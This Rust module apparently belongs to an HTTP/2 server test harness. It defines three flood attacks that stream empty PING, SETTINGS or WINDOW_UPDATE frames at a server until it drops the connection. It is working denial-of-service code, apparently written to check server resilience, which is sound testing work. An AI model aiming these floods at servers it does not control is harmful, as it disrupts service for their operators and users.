//! Floods of frames without data.

use std::net::SocketAddr;

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::hostile::{Attack, Kind, connect};
use crate::raw::{GREETING, frame};

pub(super) const KINDS: [Kind; 3] = [
    Kind { name: "PING", callers: 2, attack: |server| flood(server, frame(6, 0, 0, &[0; 8])) },
    Kind { name: "SETTINGS", callers: 2, attack: |server| flood(server, frame(4, 0, 0, &[])) },
    Kind { name: "WINDOW_UPDATE", callers: 2, attack: |server| flood(server, frame(8, 0, 0, &[0, 0, 0, 1])) },
];

/// Sends the frame until the server closes the connection, and reads the answers.
fn flood(server: SocketAddr, frame: Vec<u8>) -> Attack {
    Box::pin(async move {
        let Some(mut stream) = connect(server).await else { return };
        let (mut reading, mut writing) = stream.split();
        let write = async {
            let many = frame.repeat(100);
            let mut sent = writing.write_all(GREETING).await;
            while sent.is_ok() {
                sent = writing.write_all(&many).await;
            }
        };
        let read = async {
            let mut answers = vec![0; 16 * 1024];
            while reading.read(&mut answers).await.is_ok_and(|length| length > 0) {}
        };
        tokio::select! {
            () = write => {}
            () = read => {}
        }
    })
}
